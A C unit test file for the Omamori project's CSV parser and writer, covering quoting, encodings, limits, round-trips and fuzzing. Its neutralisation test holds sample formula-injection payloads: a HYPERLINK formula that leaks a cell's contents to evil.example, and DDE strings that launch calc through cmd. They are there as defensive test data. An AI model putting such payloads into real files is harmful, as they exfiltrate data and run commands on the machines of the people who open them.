/* SPDX-License-Identifier: GPL-3.0-or-later
 * Copyright 2026 The Omamori developers
 */
#include "config.h"

#include <string.h>
#include <glib.h>

#include "om-csv.h"

static GPtrArray *
parse_ok (const char *text)
{
  g_autoptr(GError) error = NULL;
  GPtrArray *records = om_csv_parse (text, strlen (text), NULL, &error);

  g_assert_no_error (error);
  g_assert_nonnull (records);
  return records;
}

static void
assert_record (GPtrArray   *records,
               guint        index,
               guint        line,
               const char  *first,
               ...)
{
  OmCsvRecord *record;
  va_list args;
  guint n = 0;

  g_assert_cmpuint (index, <, records->len);
  record = g_ptr_array_index (records, index);
  g_assert_cmpuint (record->line, ==, line);

  va_start (args, first);
  for (const char *expected = first; expected != NULL; expected = va_arg (args, const char *))
    {
      g_assert_cmpuint (n, <, record->n_fields);
      g_assert_cmpstr (record->fields[n], ==, expected);
      n++;
    }
  va_end (args);
  g_assert_cmpuint (record->n_fields, ==, n);
  g_assert_null (record->fields[n]);
}

static void
test_parse_simple (void)
{
  g_autoptr(GPtrArray) r = parse_ok ("a,b,c\r\n1,2,3\r\n");

  g_assert_cmpuint (r->len, ==, 2);
  assert_record (r, 0, 1, "a", "b", "c", NULL);
  assert_record (r, 1, 2, "1", "2", "3", NULL);
}

static void
test_parse_line_endings (void)
{
  /* LF only, a lone CR, and no final line break. */
  g_autoptr(GPtrArray) r = parse_ok ("a,b\nc,d\re,f\r\ng,h");

  g_assert_cmpuint (r->len, ==, 4);
  assert_record (r, 0, 1, "a", "b", NULL);
  assert_record (r, 1, 2, "c", "d", NULL);
  assert_record (r, 2, 3, "e", "f", NULL);
  assert_record (r, 3, 4, "g", "h", NULL);
}

static void
test_parse_quoted (void)
{
  g_autoptr(GPtrArray) r =
    parse_ok ("\"a,b\",\"say \"\"hi\"\"\",\"\",plain\r\n\"\"\"\",x\"y,\"\"\r\n");

  g_assert_cmpuint (r->len, ==, 2);
  assert_record (r, 0, 1, "a,b", "say \"hi\"", "", "plain", NULL);
  /* A lone quoted quote; a quote inside an unquoted field is literal. */
  assert_record (r, 1, 2, "\"", "x\"y", "", NULL);
}

static void
test_parse_embedded_newlines (void)
{
  g_autoptr(GPtrArray) r =
    parse_ok ("id,notes\r\n1,\"first line\r\nsecond\nthird\"\r\n2,after\r\n");

  g_assert_cmpuint (r->len, ==, 3);
  assert_record (r, 1, 2, "1", "first line\r\nsecond\nthird", NULL);
  /* The next record starts on physical line 5: line numbers count embedded breaks. */
  assert_record (r, 2, 5, "2", "after", NULL);
}

static void
test_parse_empty_fields (void)
{
  g_autoptr(GPtrArray) r = parse_ok (",\n\na,\n,,\n");

  g_assert_cmpuint (r->len, ==, 4);
  assert_record (r, 0, 1, "", "", NULL);
  assert_record (r, 1, 2, "", NULL);
  assert_record (r, 2, 3, "a", "", NULL);
  assert_record (r, 3, 4, "", "", "", NULL);
}

static void
test_parse_trailing_comma_at_eof (void)
{
  g_autoptr(GPtrArray) r = parse_ok ("a,");

  g_assert_cmpuint (r->len, ==, 1);
  assert_record (r, 0, 1, "a", "", NULL);
}

static void
test_parse_bom (void)
{
  g_autoptr(GPtrArray) r = parse_ok (OM_CSV_BOM "名前,種類\r\n受付PC,pc\r\n");

  g_assert_cmpuint (r->len, ==, 2);
  assert_record (r, 0, 1, "名前", "種類", NULL);
  assert_record (r, 1, 2, "受付PC", "pc", NULL);
}

static void
assert_parse_error (const char        *data,
                    gsize              length,
                    const OmCsvLimits *limits,
                    OmCsvError         code,
                    const char        *needle)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) r = NULL;

  if (length == (gsize) -1)
    length = strlen (data);
  r = om_csv_parse (data, length, limits, &error);

  g_assert_null (r);
  g_assert_error (error, OM_CSV_ERROR, (int) code);
  if (needle != NULL && strstr (error->message, needle) == NULL)
    g_error ("“%s” does not mention “%s”", error->message, needle);
}

static void
test_parse_empty (void)
{
  assert_parse_error ("", 0, NULL, OM_CSV_ERROR_EMPTY, NULL);
  assert_parse_error (OM_CSV_BOM, 3, NULL, OM_CSV_ERROR_EMPTY, NULL);
}

static void
test_parse_invalid_utf8 (void)
{
  /* "名前" in Shift_JIS is 96 BC 91 4F, on the third line. */
  static const char sjis[] = "name,kind\r\nok,pc\r\n\x96\xbc\x91\x4f,pc\r\n";

  assert_parse_error (sjis, sizeof sjis - 1, NULL, OM_CSV_ERROR_INVALID_UTF8, "3");
  /* Truncated multi-byte sequence at the very end. */
  assert_parse_error ("a\n\xe3\x81", 4, NULL, OM_CSV_ERROR_INVALID_UTF8, "2");
}

static void
test_parse_binary (void)
{
  static const char bin[] = "PK\x03\x04\0\0\x08\0";
  static const char utf16[] = "\xff\xfe" "n\0a\0m\0e\0";

  assert_parse_error (bin, sizeof bin - 1, NULL, OM_CSV_ERROR_BINARY, NULL);
  assert_parse_error (utf16, sizeof utf16 - 1, NULL, OM_CSV_ERROR_BINARY, "UTF-16");
}

static void
test_parse_bad_quotes (void)
{
  assert_parse_error ("a,b\n\"open,c\nd,e\n", -1, NULL, OM_CSV_ERROR_UNTERMINATED_QUOTE, "2");
  assert_parse_error ("a,b\nc,d\n\"x\"y,z\n", -1, NULL, OM_CSV_ERROR_BAD_QUOTE, "3");
}

static void
test_parse_limits (void)
{
  OmCsvLimits limits = *om_csv_limits_get_default ();
  g_autoptr(GPtrArray) ok = NULL;
  g_autoptr(GError) error = NULL;
  const char *text;

  limits.max_field_length = 4;
  text = "abcd,\"wxyz\"\nabcde\n";
  assert_parse_error (text, strlen (text), &limits, OM_CSV_ERROR_FIELD_TOO_LONG, "2");
  text = "a\n\"ab\"\"cd\"\n";
  assert_parse_error (text, strlen (text), &limits, OM_CSV_ERROR_FIELD_TOO_LONG, "2");

  limits = *om_csv_limits_get_default ();
  limits.max_columns = 3;
  ok = om_csv_parse ("a,b,c\n", 6, &limits, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (ok->len, ==, 1);
  assert_parse_error ("a,b,c\na,b,c,d\n", 14, &limits, OM_CSV_ERROR_TOO_MANY_COLUMNS, "2");

  limits = *om_csv_limits_get_default ();
  limits.max_rows = 2;
  assert_parse_error ("a\nb\nc\n", 6, &limits, OM_CSV_ERROR_TOO_MANY_ROWS, "2");

  limits = *om_csv_limits_get_default ();
  limits.max_input_size = 5;
  assert_parse_error ("a,b,c\n", 6, &limits, OM_CSV_ERROR_TOO_LARGE, NULL);
}

static void
test_neutralize (void)
{
  static const struct {
    const char *in;
    const char *out;
  } cases[] = {
    { "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
      "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" },
    { "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
    { "-1+1", "'-1+1" },
    { "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0" },
    { "\t=1+1", "'\t=1+1" },
    { "\r=1+1", "'\r=1+1" },
    /* Already looks neutralised: gets one more quote so the import can undo exactly one. */
    { "'=1+1", "''=1+1" },
    { "''@x", "'''@x" },
    /* Harmless cells stay as they are. */
    { "'quoted'", "'quoted'" },
    { "PC-01", "PC-01" },
    { "a=b", "a=b" },
    { " =1", " =1" },
    { "", "" },
    { "受付 PC", "受付 PC" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *n = om_csv_neutralize (cases[i].in);
      g_autofree char *back = om_csv_unneutralize (n);

      g_assert_cmpstr (n, ==, cases[i].out);
      g_assert_cmpstr (back, ==, cases[i].in);
      /* Nothing the writer produces starts a formula. */
      g_assert_false (om_csv_cell_is_dangerous (n));
    }

  /* A user-typed leading quote before ordinary text is data, not a prefix. */
  {
    g_autofree char *u = om_csv_unneutralize ("'0123");

    g_assert_cmpstr (u, ==, "'0123");
  }
}

static void
test_write_quoting (void)
{
  g_autoptr(GString) out = g_string_new (NULL);
  const char *row[] = { "plain", "a,b", "say \"hi\"", "two\nlines", " pad", NULL, "=1+2" };

  om_csv_append_row (out, row, G_N_ELEMENTS (row), OM_CSV_WRITE_NEUTRALIZE);
  g_assert_cmpstr (out->str, ==,
                   "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\" pad\",,'=1+2\r\n");

  g_string_truncate (out, 0);
  om_csv_append_row (out, row + 6, 1, OM_CSV_WRITE_NONE);
  g_assert_cmpstr (out->str, ==, "=1+2\r\n");
}

/* Writing then reading any cells gives the same cells back. */
static void
test_round_trip (void)
{
  const char *cells[] = {
    "", "x", ",", "\"", "\"\"", "a\r\nb", "\n", "\r", "末尾 ", " 先頭", "=SUM(A1:A9)",
    "+81-3-1234-5678", "-", "@", "'=x", "''", "'", "\t", "複合機 (2F)\n備考: \"重要\"",
    "emoji 🙂", "-1+1", "''=x",
  };
  g_autoptr(GString) out = g_string_new (OM_CSV_BOM);
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(GError) error = NULL;
  guint n = G_N_ELEMENTS (cells);

  /* Each cell alone on a row, then all of them in one row. */
  for (guint i = 0; i < n; i++)
    om_csv_append_row (out, &cells[i], 1, OM_CSV_WRITE_NEUTRALIZE);
  om_csv_append_row (out, cells, n, OM_CSV_WRITE_NEUTRALIZE);

  g_assert_true (g_str_has_prefix (out->str, OM_CSV_BOM));
  records = om_csv_parse (out->str, out->len, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (records->len, ==, n + 1);

  for (guint i = 0; i < n; i++)
    {
      OmCsvRecord *r = g_ptr_array_index (records, i);
      g_autofree char *back = NULL;

      g_assert_cmpuint (r->n_fields, ==, 1);
      back = om_csv_unneutralize (r->fields[0]);
      g_assert_cmpstr (back, ==, cells[i]);
    }
  {
    OmCsvRecord *r = g_ptr_array_index (records, n);

    g_assert_cmpuint (r->n_fields, ==, n);
    for (guint i = 0; i < n; i++)
      {
        g_autofree char *back = om_csv_unneutralize (r->fields[i]);

        g_assert_cmpstr (back, ==, cells[i]);
      }
  }
}

/* Random byte strings: the parser never crashes, and whatever parses
 * re-serialises to something that parses to the same records. */
static void
test_random_stable (void)
{
  static const char alphabet[] = { 'a', ',', '"', '\r', '\n', ' ', '=', '\'' };
  GRand *rand = g_rand_new_with_seed (4180);

  for (guint iter = 0; iter < 2000; iter++)
    {
      char buf[64];
      guint len = g_rand_int_range (rand, 1, sizeof buf);
      g_autoptr(GPtrArray) first = NULL;
      g_autoptr(GPtrArray) second = NULL;
      g_autoptr(GString) out = g_string_new (NULL);

      for (guint i = 0; i < len; i++)
        buf[i] = alphabet[g_rand_int_range (rand, 0, sizeof alphabet)];

      first = om_csv_parse (buf, len, NULL, NULL);
      if (first == NULL)
        continue;
      for (guint i = 0; i < first->len; i++)
        {
          OmCsvRecord *r = g_ptr_array_index (first, i);

          om_csv_append_row (out, (const char * const *) r->fields, r->n_fields,
                             OM_CSV_WRITE_NONE);
        }
      second = om_csv_parse (out->str, out->len, NULL, NULL);
      g_assert_nonnull (second);
      g_assert_cmpuint (second->len, ==, first->len);
      for (guint i = 0; i < first->len; i++)
        {
          OmCsvRecord *a = g_ptr_array_index (first, i);
          OmCsvRecord *b = g_ptr_array_index (second, i);

          g_assert_cmpstrv (a->fields, b->fields);
        }
    }
  g_rand_free (rand);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/csv/parse/simple", test_parse_simple);
  g_test_add_func ("/csv/parse/line-endings", test_parse_line_endings);
  g_test_add_func ("/csv/parse/quoted", test_parse_quoted);
  g_test_add_func ("/csv/parse/embedded-newlines", test_parse_embedded_newlines);
  g_test_add_func ("/csv/parse/empty-fields", test_parse_empty_fields);
  g_test_add_func ("/csv/parse/trailing-comma-at-eof", test_parse_trailing_comma_at_eof);
  g_test_add_func ("/csv/parse/bom", test_parse_bom);
  g_test_add_func ("/csv/parse/empty", test_parse_empty);
  g_test_add_func ("/csv/parse/invalid-utf8", test_parse_invalid_utf8);
  g_test_add_func ("/csv/parse/binary", test_parse_binary);
  g_test_add_func ("/csv/parse/bad-quotes", test_parse_bad_quotes);
  g_test_add_func ("/csv/parse/limits", test_parse_limits);
  g_test_add_func ("/csv/neutralize", test_neutralize);
  g_test_add_func ("/csv/write/quoting", test_write_quoting);
  g_test_add_func ("/csv/round-trip", test_round_trip);
  g_test_add_func ("/csv/random-stable", test_random_stable);

  return g_test_run ();
}
